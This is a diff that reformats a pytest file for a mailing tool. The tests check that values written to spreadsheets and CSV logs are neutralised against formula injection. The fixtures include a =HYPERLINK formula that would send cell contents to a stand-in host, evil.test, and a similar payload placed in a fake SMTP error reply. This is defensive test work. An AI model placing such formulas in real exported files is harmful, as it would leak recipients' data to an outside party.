@@ -20,18 +20,21 @@ from mailer.store import Store
 from tests.conftest import SAMPLE_ISSUE
 
 
-@pytest.mark.parametrize(("value", "cell"), [
-    ('=HYPERLINK("http://evil.test/?d="&A2,"Click")', '\'=HYPERLINK("http://evil.test/?d="&A2,"Click")'),
-    ("+1 555 0100", "'+1 555 0100"),
-    ("-x", "'-x"),
-    ("@SUM(A1)", "'@SUM(A1)"),
-    ("王小明", "王小明"),
-    ("a=b", "a=b"),
-    ("\x1b[31mred\x1b[0m", "red"),
-    ("two\nlines", "two lines"),
-    (250, 250),
-    (None, ""),
-])
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ('=HYPERLINK("http://evil.test/?d="&A2,"Click")', '\'=HYPERLINK("http://evil.test/?d="&A2,"Click")'),
+        ("+1 555 0100", "'+1 555 0100"),
+        ("-x", "'-x"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("王小明", "王小明"),
+        ("a=b", "a=b"),
+        ("\x1b[31mred\x1b[0m", "red"),
+        ("two\nlines", "two lines"),
+        (250, 250),
+        (None, ""),
+    ],
+)
 def test_cells(value: object, cell: object) -> None:
     assert spreadsheet_cell(value) == cell
     if isinstance(value, str) and value.isprintable():
@@ -46,11 +49,10 @@ def test_a_quote_a_person_typed_is_kept() -> None:
 def test_the_writer_quotes_as_csv_does() -> None:
     buffer = io.StringIO()
     SpreadsheetWriter(buffer).writerow(["a,b", '=1,"2"', 3])
-    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [["a,b", "'=1,\"2\"", "3"]]
+    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [["a,b", '\'=1,"2"', "3"]]
 
 
-def test_log_csv_neutralises_smtp_replies(store: Store, config: Config, smtp_server: CaptureServer,
-                                          run_cli) -> None:  # type: ignore[no-untyped-def]
+def test_log_csv_neutralises_smtp_replies(store: Store, config: Config, smtp_server: CaptureServer, run_cli) -> None:  # type: ignore[no-untyped-def]
     list_id = store.lists.get("bulletin").id
     store.subscribers.upsert(list_id, [Subscriber(email="a@example.net"), Subscriber(email="b@example.net")], "t")
     smtp_server.set_rule("a@example.net", Rule(stage="data", code=550, text='=HYPERLINK("http://evil.test","x")'))
